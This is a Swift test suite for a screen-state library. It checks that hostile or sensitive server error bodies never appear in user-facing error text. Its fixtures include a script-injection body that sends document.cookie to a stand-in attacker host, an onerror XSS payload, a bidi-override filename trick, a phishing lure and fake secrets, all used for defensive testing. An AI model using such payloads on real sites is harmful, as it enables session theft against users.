import Foundation
import PropertyBased
import ScreenState
import Testing

#if canImport(FoundationNetworking)
  import FoundationNetworking
#endif

/// A raw server body or an internal error description never
/// reaches user-facing text, whatever error carries it and whatever policy shows it.
@Suite("Hostile server bodies never reach the user")
struct HostileBodyTests {
  struct Body: Sendable, CustomTestStringConvertible {
    let name: String
    let text: String
    /// Distinctive pieces of `text` that must not show up anywhere.
    let fragments: [String]
    var testDescription: String { name }
  }

  static let bodies: [Body] = [
    Body(
      name: "nginx HTML",
      text:
        "<html><head><title>502 Bad Gateway</title></head><body><center><h1>502 Bad Gateway</h1></center><hr><center>nginx/1.18.0 (Ubuntu)</center></body></html>",
      fragments: ["<html>", "Bad Gateway", "nginx", "<h1>", "502", "Ubuntu", "</"]),
    Body(
      name: "Python traceback",
      text:
        "Traceback (most recent call last):\n  File \"/srv/app/api.py\", line 42, in handler\n    raise KeyError('user_id')\nKeyError: 'user_id'",
      fragments: ["Traceback", "/srv/app", "api.py", "KeyError", "user_id", "line 42"]),
    Body(
      name: "Java stack trace",
      text:
        "java.lang.NullPointerException: Cannot invoke \"String.length()\"\n\tat com.example.PostsController.list(PostsController.java:88)\n\tat sun.reflect.GeneratedMethodAccessor",
      fragments: ["java.lang", "NullPointerException", "PostsController", ".java:", "sun.reflect", "invoke"]),
    Body(
      name: "SQL error with a secret",
      text:
        "ERROR: relation \"users\" does not exist at character 15; query: SELECT * FROM users WHERE token='sk_live_51HxQ'",
      fragments: ["SELECT", "sk_live", "relation", "FROM users", "51HxQ"]),
    Body(
      name: "script injection",
      text: "<script>fetch('https://evil.example/?c='+document.cookie)</script><img src=x onerror=alert(1)>",
      fragments: ["<script", "document.cookie", "evil.example", "onerror", "alert(1)"]),
    Body(
      name: "JSON error",
      text: #"{"error":"internal","trace_id":"7f3c9a0e","secret":"hunter2","detail":"pq: duplicate key"}"#,
      fragments: ["trace_id", "7f3c9a0e", "hunter2", "{\"", "duplicate key", "pq:"]),
    Body(
      name: "terminal escapes and bidi overrides",
      text: "\u{1B}[2J\u{1B}[31mPWNED\u{202E}gnp.exe\u{0000}zalgo̷̢",
      fragments: ["\u{1B}", "PWNED", "\u{202E}", "gnp.exe", "\u{0000}", "zalgo"]),
    Body(
      name: "fake friendly message",
      text: "Your account is suspended. Call +1-555-0100 and read us your password.",
      fragments: ["suspended", "555-0100", "password", "Call +1"]),
  ]

  // MARK: - Errors that carry a body

  struct DescribedError: Error, CustomStringConvertible, CustomDebugStringConvertible, LocalizedError {
    let body: String
    var description: String { body }
    var debugDescription: String { body }
    var errorDescription: String? { body }
    var failureReason: String? { body }
    var recoverySuggestion: String? { body }
  }

  /// A typical app's `APIError`, whose `errorDescription` embeds whatever the server said.
  enum SeedAPIError: Error, LocalizedError {
    case serverError(Int, body: String)
    case networkError(String)
    var errorDescription: String? {
      switch self {
      case .serverError(let code, let body): "Server error with code: \(code): \(body)"
      case .networkError(let message): "Network error: \(message)"
      }
    }
  }

  struct AdvisingError: RetryAdvising, CustomStringConvertible {
    let body: String
    var isRetryable: Bool { false }
    var description: String { body }
  }

  struct ClassifyingError: FailureClassifying, CustomStringConvertible {
    let body: String
    var classification: FailureClassification { FailureClassification(kind: .serverError, statusCode: 500) }
    var description: String { body }
  }

  struct BodyKey: CodingKey {
    var stringValue: String
    var intValue: Int? { nil }
    init(stringValue: String) { self.stringValue = stringValue }
    init?(intValue: Int) { nil }
  }

  /// Every way an app might hand a body to the library, inside an error.
  static func errors(carrying body: String) -> [any Error] {
    let key = BodyKey(stringValue: body)
    let context = DecodingError.Context(
      codingPath: [key], debugDescription: body, underlyingError: DescribedError(body: body))
    return [
      DecodingError.dataCorrupted(context),
      DecodingError.typeMismatch(String.self, context),
      DecodingError.valueNotFound(Int.self, context),
      DecodingError.keyNotFound(key, context),
      DescribedError(body: body),
      SeedAPIError.serverError(500, body: body),
      SeedAPIError.networkError(body),
      AdvisingError(body: body),
      ClassifyingError(body: body),
      NSError(
        domain: "com.example.api", code: 500,
        userInfo: [NSLocalizedDescriptionKey: body, NSLocalizedFailureReasonErrorKey: body, "body": body]),
      NSError(domain: body, code: -1),
      URLError(
        .cannotConnectToHost,
        userInfo: ["NSErrorFailingURLStringKey": "https://api.example.com/?q=\(body)", NSLocalizedDescriptionKey: body]),
      URLError(.notConnectedToInternet, userInfo: [NSLocalizedDescriptionKey: body]),
      URLError(.badServerResponse, userInfo: [NSLocalizedDescriptionKey: body]),
      HTTPStatusError(statusCode: 503, retryAfterHeader: body, now: .zero),
      HTTPStatusError(statusCode: 500, retryAfterHeader: body, now: .zero),
      EncodingError.invalidValue(body, .init(codingPath: [key], debugDescription: body)),
    ]
  }

  static let policies: [PresentationPolicy] = [
    .default,
    .banner,
    PresentationPolicy(keptContent: .inline),
    PresentationPolicy(keptContent: .fullScreen),
    PresentationPolicy(
      keptContent: .banner,
      overrides: [.unexpectedResponse: .fullScreen, .unknown: .alert, .maintenance: .inline, .serverError: .alert]),
  ]

  /// Every user-facing string the library produces for `error`: each policy, with and without content.
  static func texts(for error: any Error) -> [String] {
    var texts: [String] = []
    for policy in policies {
      for previous in [nil, [1], []] as [[Int]?] {
        texts += userFacingTexts(
          ScreenProjection(Loadable<[Int], any Error>.failed(error, previous: previous), policy: policy))
      }
    }
    let message = ScreenTexts.standard.failureMessage(for: FailureClassifier.standard.classify(error))
    texts += [message.title, message.message]
    return texts
  }

  static func leaks(_ body: String, fragments: [String], in texts: [String]) -> [String] {
    texts.filter { text in
      text.contains(body) || fragments.contains { text.contains($0) }
    }
  }

  @Test(arguments: bodies)
  func noProjectionShowsTheBody(body: Body) {
    for error in Self.errors(carrying: body.text) {
      let texts = Self.texts(for: error)
      #expect(!texts.isEmpty)
      let leaked = Self.leaks(body.text, fragments: body.fragments, in: texts)
      #expect(leaked.isEmpty, "\(type(of: error)) leaked into \(leaked)")
    }
  }

  @MainActor
  @Test(arguments: bodies)
  func noErrorScreenModelShowsTheBody(body: Body) async {
    for error in Self.errors(carrying: body.text) {
      let loader = Loader<[Int], any Error>(.failed(error, previous: nil), retryPolicy: .never, timeout: nil) { [] }
      let screen = LoadableScreen(loader)
      let texts = userFacingTexts(screen.projection)
      #expect(screen.projection.region == .failure)
      #expect(Self.leaks(body.text, fragments: body.fragments, in: texts).isEmpty, "\(type(of: error))")
      let modelTexts = screen.errorScreenModel.map { userFacingTexts($0.configuration) } ?? []
      #expect(Self.leaks(body.text, fragments: body.fragments, in: modelTexts).isEmpty)
    }
  }

  @Test func theErrorsReallyCarryTheBody() {
    // Guard against a vacuous suite: the body is where a careless presenter would find it.
    let body = Self.bodies[0].text
    let carriers = Self.errors(carrying: body).filter { error in
      String(describing: error).contains(body) || String(reflecting: error).contains(body)
        || (error as NSError).localizedDescription.contains(body)
        || "\((error as NSError).userInfo)".contains(body)
    }
    // The two HTTPStatusErrors drop the malformed header on purpose; every other error carries the body.
    #expect(carriers.count == Self.errors(carrying: body).count - 2)
  }

  // MARK: - Property-based over random bodies

  /// Printable ASCII and a few troublesome scalars, so bodies look like markup, JSON and escapes.
  static let bodyCharacter = Gen<Character>.oneOf(
    Gen.character(in: " "..."~"), Gen.character(in: " "..."~"), Gen.character(in: " "..."~"),
    Gen.character(in: "\u{00A0}"..."\u{024F}"), Gen.character(in: "\u{2000}"..."\u{206F}"),
    Gen.always("\u{1B}"), Gen.always("\n"), Gen.always("<"), Gen.always("\""))

  /// Windows of `window` characters of `body` that a user might recognise.
  static func windows(of body: String, length window: Int) -> [String] {
    let characters = Array(body)
    guard characters.count >= window else { return [body] }
    return (0...(characters.count - window)).map { String(characters[$0..<$0 + window]) }
  }

  @Test func randomBodiesNeverReachUserFacingText() async {
    let errorCount = Self.errors(carrying: "x").count
    await propertyCheck(
      count: 300, input: Self.bodyCharacter.string(of: 12...160), Gen.int(in: 0...(errorCount - 1)),
      Gen.int(in: 0...(Self.policies.count - 1))
    ) { body, errorIndex, policyIndex in
      let error = Self.errors(carrying: body)[errorIndex]
      var texts: [String] = []
      for previous in [nil, [1], []] as [[Int]?] {
        texts += userFacingTexts(
          ScreenProjection(
            Loadable<[Int], any Error>.failed(error, previous: previous), policy: Self.policies[policyIndex]))
      }
      #expect(!texts.isEmpty)
      // No 10-character run of the body appears anywhere (random text of that length is never a
      // coincidence with the library's own sentences).
      let fragments = Self.windows(of: body, length: 10)
      #expect(Self.leaks(body, fragments: fragments, in: texts).isEmpty, "\(type(of: error))")
    }
  }

  @Test func randomRetryAfterHeadersNeverReachUserFacingText() async {
    await propertyCheck(count: 300, input: Self.bodyCharacter.string(of: 1...80)) { header in
      let error = HTTPStatusError(statusCode: 503, retryAfterHeader: header, now: .zero)
      let texts = Self.texts(for: error)
      // Whatever the header, the words come from the library: the generic advice or a parsed delay.
      for text in texts {
        #expect(!text.contains("\u{1B}") && !text.contains("<") && !text.contains("\""))
      }
      if header.count >= 4 {
        #expect(Self.leaks(header, fragments: [], in: texts).isEmpty)
      }
    }
  }
}
